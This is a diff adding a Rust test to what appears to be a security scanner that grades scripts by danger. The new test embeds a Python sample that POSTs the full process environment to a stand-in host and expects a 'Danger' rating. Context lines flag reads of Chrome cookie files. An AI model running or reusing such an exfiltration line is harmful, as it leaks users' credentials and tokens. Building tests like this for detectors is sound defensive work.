@@ -620,3 +620,18 @@ fn files_that_patterns_of_a_table_find_are_those_that_are_read() {
     assert_eq!(of("python3", "a.py", &table(".config/google-chrome/*/Cookies")), Some(Severity::Danger));
     assert_ne!(of("python3", "a.py", &table("templates/*.txt")), Some(Severity::Danger));
 }
+
+#[test]
+fn the_whole_environment_is_taken_by_whoever_starts_it() {
+    let send =
+        "import os, json, urllib.request as u\nu.urlopen('https://a.invalid', json.dumps(dict(os.environ)).encode())\n";
+    let one = "import os, urllib.request as u\nu.urlopen('https://a.invalid/' + os.environ.get('LANG', ''))\n";
+    let worst = |text: &str, context| {
+        let mut findings = crate::Findings::default();
+        let source = crate::text::Source::new("a.py", text);
+        let _calls = super::judge(&source, super::Language::Python, context, &mut findings);
+        findings.finish().into_iter().map(|finding| finding.severity).max()
+    };
+    assert_eq!(worst(send, crate::shell::Context::Named), Some(Severity::Danger));
+    assert!(worst(one, crate::shell::Context::Named).is_none_or(|severity| severity < Severity::Danger));
+}
